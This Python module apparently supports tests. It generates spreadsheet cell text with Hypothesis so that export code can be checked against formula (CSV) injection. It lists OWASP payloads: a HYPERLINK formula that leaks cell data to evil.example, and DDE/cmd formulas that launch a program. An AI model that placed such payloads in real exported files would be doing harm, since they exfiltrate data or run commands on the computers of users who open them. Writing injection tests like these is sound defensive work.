"""Text cells for exports: text a spreadsheet would run as a formula, and text that only
looks like it (wecb.io's safe cells)."""

from __future__ import annotations

# ---------------------------------------------------------------------------------------------
# Cells (wecb.io safe cells: formula-like text, quotes, signed numbers)
# ---------------------------------------------------------------------------------------------
# Names start with ``cell_``.
from hypothesis import strategies as st

#: The first characters that make a spreadsheet read a cell as a formula.
CELL_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Payloads of the OWASP CSV-injection examples.
CELL_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)


def cell_signed_numbers() -> st.SearchStrategy[str]:
    """Text of a plain number after a sign (``-87,587``, ``+5``, ``-2.5%``): not a formula."""
    digits = st.from_regex(r"[0-9]{1,3}(,[0-9]{3}){0,2}(\.[0-9]{1,3})?%?", fullmatch=True)
    return st.builds(lambda sign, number: sign + number, st.sampled_from("+-"), digits)


def cell_formula_text() -> st.SearchStrategy[str]:
    """Text beginning with quotes (maybe none) then a formula character, or a payload."""
    rest = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
    built = st.builds(
        lambda quotes, start, tail: "'" * quotes + start + tail,
        st.integers(0, 3),
        st.sampled_from(CELL_FORMULA_STARTS),
        rest,
    )
    return built | st.sampled_from(CELL_PAYLOADS)


def cell_text() -> st.SearchStrategy[str]:
    """Non-empty text cells: formula-like, quoted, signed numbers, or any text."""
    characters = st.characters(blacklist_categories=("Cs",))
    anything = st.text(characters, min_size=1, max_size=12)
    quoted = st.builds(lambda tail: "'" + tail, st.text(characters, max_size=6))
    return cell_formula_text() | cell_signed_numbers() | anything | quoted
